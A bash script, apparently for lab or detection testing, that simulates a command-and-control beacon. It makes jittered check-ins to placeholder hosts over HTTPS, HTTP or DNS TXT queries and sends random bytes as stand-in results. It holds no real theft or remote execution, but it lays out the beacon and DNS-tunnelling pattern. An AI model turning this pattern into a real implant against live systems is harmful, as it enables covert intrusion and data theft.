#!/usr/bin/env bash
# A scripted C2 beacon (Debian packages no C2 framework): checks in with its server every PERIOD
# seconds, +- JITTER (a share of the period), for SECONDS, and sends back a small result when a task
# comes. MODE https: curl to https://api.cloud.test (TLS); http: wget to http://EXT; dns: dig TXT
# queries whose names carry the data, through the lab resolver.
# Usage: beacon.sh https|http|dns PERIOD JITTER SECONDS
set -u
case "${1:-}" in -h|--help) sed -n '2,7p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;; esac
[ $# -eq 4 ] || { sed -n '2,7p' "$0" | sed 's/^# \{0,1\}//' >&2; exit 2; }
MODE=$1 PERIOD=$2 JITTER=$3 END=$(( $(date +%s) + $4 ))
ID=$(head -c 4 /dev/urandom | od -An -tx1 | tr -d ' \n')
while [ "$(date +%s)" -lt "$END" ]; do
  case $MODE in
    https) curl -sk -m 10 -o /dev/null -H "Cookie: sid=$ID" "https://api.cloud.test/api/task"
           [ $((RANDOM % 4)) = 0 ] && curl -sk -m 10 -o /dev/null -d "id=$ID&r=$(head -c 300 /dev/urandom | base64 -w0)" "https://api.cloud.test/submit" ;;
    http) wget -q -T 10 -O /dev/null --header "X-Id: $ID" "http://${EXT:-10.88.0.80}/api/task" ;;
    dns) dig +short +tries=1 TXT "$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n').$ID.sync.cloud.test" >/dev/null ;;
  esac
  sleep "$(python3 -c "import random; print(max(0.5, $PERIOD * (1 + random.uniform(-$JITTER, $JITTER))))")"
done
